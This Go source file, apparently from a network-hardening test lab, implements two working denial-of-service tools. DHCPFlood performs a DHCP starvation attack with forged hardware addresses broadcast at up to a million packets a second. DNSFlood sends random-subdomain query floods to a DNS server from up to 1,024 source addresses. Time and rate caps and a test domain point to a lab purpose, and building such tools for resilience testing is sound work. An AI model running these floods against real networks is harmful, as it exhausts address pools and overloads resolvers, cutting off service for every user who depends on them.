package lab

import (
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"maps"
	"math/rand/v2"
	"net"
	"net/netip"
	"slices"
	"sync"
	"time"

	"github.com/insomniacslk/dhcp/dhcpv4"
	"github.com/miekg/dns"
	"golang.org/x/net/ipv4"
)

// DHCPFlood sends DHCP DISCOVERs from forged hardware addresses, each
// used once, out of iface to the broadcast address, at rate a second for
// duration (a DHCP starvation attack, for the hardening tests). It
// writes how many it sent and at what rate to w.
func DHCPFlood(ctx context.Context, iface string, rate int, duration time.Duration, w io.Writer) error {
	if rate <= 0 || rate > 1_000_000 || duration <= 0 || duration > time.Minute {
		return fmt.Errorf("dhcp-flood: a rate of 1 to 1,000,000 a second for at most a minute")
	}
	lc := net.ListenConfig{Control: broadcastOn(iface)}
	pc, err := lc.ListenPacket(ctx, "udp4", "0.0.0.0:0")
	if err != nil {
		return fmt.Errorf("dhcp-flood on %s: %w", iface, err)
	}
	defer pc.Close()
	conn := ipv4.NewPacketConn(pc)
	m, err := dhcpv4.New(dhcpv4.WithMessageType(dhcpv4.MessageTypeDiscover), dhcpv4.WithHwAddr(net.HardwareAddr{2, 0, 0, 0, 0, 0}))
	if err != nil {
		return err
	}
	tmpl := m.ToBytes()
	to := &net.UDPAddr{IP: net.IPv4bcast, Port: dhcpv4.ServerPort}
	const batch = 64
	msgs := make([]ipv4.Message, batch)
	for i := range msgs {
		b := append([]byte(nil), tmpl...)
		msgs[i] = ipv4.Message{Buffers: [][]byte{b}, Addr: to}
	}
	seq := rand.Uint32()
	sent, took := pace(ctx, rate, duration, func(due int) int {
		n := min(batch, due)
		for i := range n {
			seq++
			b := msgs[i].Buffers[0]
			binary.BigEndian.PutUint32(b[4:8], seq)   // xid
			binary.BigEndian.PutUint32(b[30:34], seq) // chaddr: 02:xx + seq
			b[29] = byte(seq>>24 ^ 0x5a)
		}
		k, _ := conn.WriteBatch(msgs[:n], 0) // a full queue sends fewer: they are counted as sent
		return k
	})
	fmt.Fprintf(w, "sent=%d seconds=%.2f rate=%.0f\n", sent, took.Seconds(), float64(sent)/took.Seconds())
	return nil
}

// pace calls send with how many messages are due, at rate a second, until
// duration has passed or ctx is done; send returns how many it sent. pace
// returns the total and the time it took.
func pace(ctx context.Context, rate int, duration time.Duration, send func(due int) int) (int, time.Duration) {
	start := time.Now()
	end := start.Add(duration)
	sent := 0
	for now := start; now.Before(end) && ctx.Err() == nil; now = time.Now() {
		due := int(float64(rate)*now.Sub(start).Seconds()) - sent
		if due <= 0 {
			time.Sleep(200 * time.Microsecond)
			continue
		}
		if k := send(due); k > 0 {
			sent += k
		} else {
			time.Sleep(100 * time.Microsecond) // the link's queue is full
		}
	}
	return sent, time.Since(start)
}

// DNSFlood sends DNS queries for names nobody has asked before (so that
// each is forwarded), from each of sources in turn, to server at rate a
// second for duration, and counts the answers by result. It writes one
// line: sent=N answered=N and a count for each result code.
func DNSFlood(ctx context.Context, server netip.AddrPort, sources []netip.Addr, rate int, duration time.Duration, w io.Writer) error {
	if rate <= 0 || rate > 1_000_000 || duration <= 0 || duration > time.Minute || len(sources) == 0 || len(sources) > 1024 {
		return fmt.Errorf("dns-flood: a rate of 1 to 1,000,000 a second for at most a minute, from 1 to 1,024 sources")
	}
	var conns []*net.UDPConn
	defer func() {
		for _, c := range conns {
			c.Close()
		}
	}()
	var mu sync.Mutex
	rcodes := map[string]int{}
	answered := 0
	var wg sync.WaitGroup
	for _, src := range sources {
		c, err := net.DialUDP("udp", net.UDPAddrFromAddrPort(netip.AddrPortFrom(src, 0)), net.UDPAddrFromAddrPort(server))
		if err != nil {
			return fmt.Errorf("dns-flood from %s: %w", src, err)
		}
		conns = append(conns, c)
		wg.Go(func() {
			buf := make([]byte, 65535)
			for {
				n, err := c.Read(buf)
				if err != nil {
					if errors.Is(err, net.ErrClosed) {
						return
					}
					continue // ICMP errors show up as read errors
				}
				if n < 12 {
					continue
				}
				mu.Lock()
				answered++
				rcodes[dns.RcodeToString[int(buf[3]&0xf)]]++
				mu.Unlock()
			}
		})
	}
	q := new(dns.Msg)
	run := time.Now().UnixNano() % 1e6
	n := 0
	sent, _ := pace(ctx, rate, duration, func(due int) int {
		for range due {
			q.SetQuestion(fmt.Sprintf("r%d-%d.example.test.", run, n), dns.TypeA)
			b, _ := q.Pack() // a name of this form always packs
			conns[n%len(conns)].Write(b)
			n++
		}
		return due
	})
	time.Sleep(3 * time.Second) // the last answers
	for _, c := range conns {
		c.Close()
	}
	wg.Wait()
	conns = nil
	mu.Lock()
	defer mu.Unlock()
	fmt.Fprintf(w, "sent=%d answered=%d", sent, answered)
	for _, k := range slices.Sorted(maps.Keys(rcodes)) {
		fmt.Fprintf(w, " %s=%d", k, rcodes[k])
	}
	fmt.Fprintln(w)
	return nil
}
